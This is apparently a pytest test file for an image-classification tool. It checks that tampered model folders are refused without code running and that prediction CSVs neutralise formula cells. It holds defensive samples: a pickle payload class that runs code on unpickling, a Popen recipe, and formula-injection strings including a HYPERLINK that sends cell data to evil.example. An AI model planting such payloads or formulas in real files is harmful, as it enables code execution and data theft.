"""Hostile heads, sweep folders, fine-tuned models and prediction tables (issue 19 items 1 and 5).

Each case: the attack as a stranger would build it (hashes recomputed, so integrity checks pass),
the refusal or escape expected, and a check that nothing ran: a pickle payload here creates a
marker file when it is unpickled, and the marker must not exist afterwards.
"""
import csv
import hashlib
import json
import pickle
import shutil

import numpy as np
import pytest
from PIL import Image

from tests.conftest import make_npz, refusal_lines, run_cli
from transferlab.util import UserInputError, sha256_json


class Payload:
    """Unpickling this object calls ``open(marker, "w")``: the author's code, made visible."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


def _resign(meta: dict) -> dict:
    """What a tampering author does: the self-hash recomputed over the edited description."""
    meta = {k: v for k, v in meta.items() if k != "meta_sha256"}
    meta["meta_sha256"] = sha256_json(meta)
    return meta


def plant_pickle(head_dir, marker, format_version=1, payload=None):
    """Turn a head folder into a pickled head whose loading creates ``marker``, with matching hashes.

    ``format_version`` 1 is the layout of heads saved before they were arrays; 2 a pickled head of
    today's layout (a head of one's own). ``head.json`` keeps its provenance (``sweep_row_key`` too)."""
    meta = json.loads((head_dir / "head.json").read_text())
    meta.pop("estimator", None)
    data = pickle.dumps(Payload(marker) if payload is None else payload)
    for name in ("head.safetensors", "head.joblib"):
        (head_dir / name).unlink(missing_ok=True)
    (head_dir / "head.joblib").write_bytes(data)
    meta.update(head_file="head.joblib", head_sha256=hashlib.sha256(data).hexdigest(), format_version=format_version)
    (head_dir / "head.json").write_text(json.dumps(_resign(meta)))


SWEEP = ["--heads", "knn", "--layers", "bn2", "--image-size", "32", "--workers", "1", "--quiet"]
FINETUNE = ["--mode", "head", "--epochs", "1", "--batch-size", "16", "--no-augment", "--quiet"]


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A tiny sweep (one layer, knn) and a one-epoch fine-tuning run, both clean; tests work on copies."""
    t = tmp_path_factory.mktemp("hostile_heads")
    npz = make_npz(t / "d.npz", n_train=30, n_test=12, size=16)
    sweep = ["sweep", "--data", f"npz:{npz}", "--cache-dir", t / "cache", *SWEEP]
    out = run_cli(*sweep, "--out", t / "sweep")
    assert out.returncode == 0, out.stderr
    assert (t / "sweep" / "chosen_head" / "head.json").is_file()
    out = run_cli("finetune", "--data", f"npz:{npz}", "--image-size", "32", *FINETUNE, "--out", t / "ft")
    assert out.returncode == 0, out.stderr
    Image.fromarray(np.load(npz)["x_test"][0]).save(t / "photo.png")
    return {"t": t, "npz": npz, "sweep_args": sweep}


def _copy(world, name, tmp_path):
    return shutil.copytree(world["t"] / name, tmp_path / name)


def _one_line_refusal(out) -> str:
    assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr
    (line,) = refusal_lines(out)  # the command's plan line, then the one error line
    assert line.startswith("error: ")
    return line


# --- a head folder ---------------------------------------------------------------------------------

@pytest.mark.parametrize("format_version", [1, 2])
def test_a_pickled_head_with_recomputed_hashes_is_refused_and_never_unpickled(world, tmp_path, format_version):
    from transferlab.classifiers import load_head

    sweep = _copy(world, "sweep", tmp_path)
    head = sweep / "chosen_head"
    marker = tmp_path / "payload_ran"
    plant_pickle(head, marker, format_version)
    for model in (head, sweep):  # the head folder, and the sweep folder that holds it
        line = _one_line_refusal(run_cli("predict", "--model", model, world["t"] / "photo.png"))
        assert "head.joblib is a pickle" in line and "--allow-pickle" in line and "transferlab train" in line
        assert not marker.exists()
    with pytest.raises(UserInputError, match="allow_pickle=True"):
        load_head(head)
    assert not marker.exists()


def test_allow_pickle_is_the_explicit_choice_to_load_an_old_head_you_trust(world, tmp_path):
    from transferlab.classifiers import load_head

    head = _copy(world, "sweep", tmp_path) / "chosen_head"
    photo = world["t"] / "photo.png"
    safe = run_cli("predict", "--model", head, photo)
    assert safe.returncode == 0, safe.stderr
    estimator, _ = load_head(head)
    plant_pickle(head, None, 1, payload=estimator)  # a head saved as a pickle by the previous version
    _one_line_refusal(run_cli("predict", "--model", head, photo))
    trusted = run_cli("predict", "--model", head, photo, "--allow-pickle")
    assert trusted.returncode == 0, trusted.stderr
    assert trusted.stdout == safe.stdout


def test_a_recipe_naming_a_class_outside_the_safe_list_instantiates_nothing(world, tmp_path):
    from transferlab.classifiers import load_head

    head = _copy(world, "sweep", tmp_path) / "chosen_head"
    marker = tmp_path / "payload_ran"
    meta = json.loads((head / "head.json").read_text())
    meta["estimator"]["steps"][-1].update({"class": "Popen", "params": {"args": ["touch", str(marker)]}})
    (head / "head.json").write_text(json.dumps(_resign(meta)))
    with pytest.raises(UserInputError, match="'Popen' is not one of the estimators saved as arrays"):
        load_head(head)
    meta["estimator"]["steps"][-1]["class"] = "subprocess.Popen"
    (head / "head.json").write_text(json.dumps(_resign(meta)))
    line = _one_line_refusal(run_cli("predict", "--model", head, world["t"] / "photo.png"))
    assert "does not rebuild a working head" in line
    assert not marker.exists()


def test_a_head_file_named_outside_its_folder_is_never_read(world, tmp_path):
    from transferlab.classifiers import load_head

    head = _copy(world, "sweep", tmp_path) / "chosen_head"
    outside = tmp_path / "elsewhere.safetensors"
    shutil.copy(head / "head.safetensors", outside)
    meta = json.loads((head / "head.json").read_text())
    meta["head_file"] = str(outside)
    (head / "head.json").write_text(json.dumps(_resign(meta)))
    with pytest.raises(UserInputError, match="not one of head.safetensors"):
        load_head(head)


# --- a sweep folder: the report refresh never unpickles ---------------------------------------------

def test_sweep_out_and_finetune_append_to_a_folder_with_a_planted_chosen_head_run_nothing(world, tmp_path):
    sweep = _copy(world, "sweep", tmp_path)
    head = sweep / "chosen_head"
    marker = tmp_path / "payload_ran"
    plant_pickle(head, marker, 1)  # as a previous version wrote it, same row key: a reuse candidate
    out = run_cli(*world["sweep_args"], "--out", sweep)
    assert out.returncode == 0, out.stderr
    assert not marker.exists()
    assert sorted(p.name for p in head.iterdir()) == ["head.json", "head.safetensors"]  # refitted as arrays
    assert "![confusion matrix" in (sweep / "report.md").read_text()

    plant_pickle(head, marker, 2)
    out = run_cli("finetune", *FINETUNE, "--out", tmp_path / "ft", "--append-to", sweep)
    assert out.returncode == 0, out.stderr
    assert not marker.exists()
    assert sorted(p.name for p in head.iterdir()) == ["head.json", "head.safetensors"]
    assert "finetune:head" in (sweep / "results.csv").read_text()


# --- a fine-tuned model folder ------------------------------------------------------------------------

def test_a_finetuned_model_pt_holding_a_pickle_payload_is_refused(world, tmp_path):
    ft = _copy(world, "ft", tmp_path)
    marker = tmp_path / "payload_ran"
    data = pickle.dumps({"classifier.weight": Payload(marker)}, protocol=2)  # torch.load's own protocol
    (ft / "model.pt").write_bytes(data)
    meta = json.loads((ft / "model.json").read_text())
    meta["model_sha256"] = hashlib.sha256(data).hexdigest()
    (ft / "model.json").write_text(json.dumps(_resign(meta)))
    line = _one_line_refusal(run_cli("predict", "--model", ft, world["t"] / "photo.png"))
    assert "model.pt" in line
    assert not marker.exists()


def test_model_json_carries_a_self_hash_and_format_version_and_an_edit_is_refused(world, tmp_path):
    ft = _copy(world, "ft", tmp_path)
    meta = json.loads((ft / "model.json").read_text())
    assert meta["format_version"] == 2 and meta["model_file"] == "model.pt"
    assert meta["meta_sha256"] == sha256_json({k: v for k, v in meta.items() if k != "meta_sha256"})
    assert meta["model_sha256"] == hashlib.sha256((ft / "model.pt").read_bytes()).hexdigest()
    meta["class_names"] = list(reversed(meta["class_names"]))  # labels silently swapped
    (ft / "model.json").write_text(json.dumps(meta))
    line = _one_line_refusal(run_cli("predict", "--model", ft, world["t"] / "photo.png"))
    assert "model.json was changed after it was saved" in line


def test_a_model_json_from_before_format_version_still_checks_its_weights_hash(world, tmp_path):
    ft = _copy(world, "ft", tmp_path)
    photo = world["t"] / "photo.png"
    meta = json.loads((ft / "model.json").read_text())
    for key in ("format_version", "meta_sha256", "model_file"):  # the layout written before the self-hash
        del meta[key]
    (ft / "model.json").write_text(json.dumps(meta))
    legacy, clean = run_cli("predict", "--model", ft, photo), run_cli("predict", "--model", world["t"] / "ft", photo)
    assert legacy.returncode == 0 and clean.returncode == 0 and legacy.stdout == clean.stdout, legacy.stderr
    with open(ft / "model.pt", "ab") as fh:
        fh.write(b"x")
    line = _one_line_refusal(run_cli("predict", "--model", ft, photo))
    assert "model.pt does not match the sha256" in line


# --- predictions: CSV and the printed lines ------------------------------------------------------------

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1:A2)", "\tcmd", "\rcmd",
         "a;b;c", 'say "hi", twice', "two\nlines"]


def _rows():
    scores = np.linspace(0.9, 0.1, len(NAMES))
    top = [(n, float(s)) for n, s in zip(NAMES, scores)]
    rows = [{"path": "=1+1.png", "class": name, "label": i, "score_kind": "probability", "score": top[0][1],
             "top_k": top[i:] + top[:i]} for i, name in enumerate(NAMES)]
    return rows + [{"path": "@bad.png", "error": "-cannot read @bad.png"}]


def test_predictions_csv_neutralises_formulas_and_keeps_top_k_one_entry_per_class(tmp_path):
    from transferlab.pipeline.predict import write_predictions

    write_predictions(tmp_path / "p.csv", _rows())
    text = (tmp_path / "p.csv").read_text()
    assert text.splitlines()[0] == '"path","class","probability","margin","top_classes","top_scores","error"'
    with open(tmp_path / "p.csv", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert len(got) == len(NAMES) + 1
    for row, name in zip(got, NAMES):
        assert row["path"] == "'=1+1.png"
        assert row["class"] == ("'" + name if name[0] in "=+-@\t\r" else name)
        classes, scores = json.loads(row["top_classes"]), json.loads(row["top_scores"])
        assert classes[0] == name and sorted(classes) == sorted(NAMES) and len(scores) == len(NAMES)
    for row in got:  # no cell a spreadsheet would read as a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert got[-1]["path"] == "'@bad.png" and got[-1]["error"] == "'-cannot read @bad.png"


def test_printed_lines_escape_tabs_and_newlines_in_names():
    from transferlab.pipeline.predict import format_line

    for row in _rows()[:-1]:
        line = format_line({**row, "path": "dir\twith\ttabs/x\n.png"})
        assert "\n" not in line and "\r" not in line
        fields = line.split("\t")
        assert len(fields) == 5 and fields[0] == "dir\\twith\\ttabs/x\\n.png" and fields[3] == "probability"
        unescaped = fields[1].replace("\\t", "\t").replace("\\n", "\n").replace("\\r", "\r")
        assert unescaped == row["class"]


def test_predict_out_as_typed_neutralises_a_path_that_starts_with_a_formula(world, tmp_path):
    sweep = world["t"] / "sweep"
    shutil.copy(world["t"] / "photo.png", tmp_path / "=1+1.png")
    shutil.copy(world["t"] / "photo.png", tmp_path / "@x.png")
    out = run_cli("predict", "--model", sweep, "=1+1.png", "@x.png", "--out", "p.csv", "--top-k", "2", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    with open(tmp_path / "p.csv", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert [r["path"] for r in got] == ["'=1+1.png", "'@x.png"]
    classes = json.loads(got[0]["top_classes"])
    assert len(classes) == 2 and classes[0] == got[0]["class"] and len(json.loads(got[0]["top_scores"])) == 2
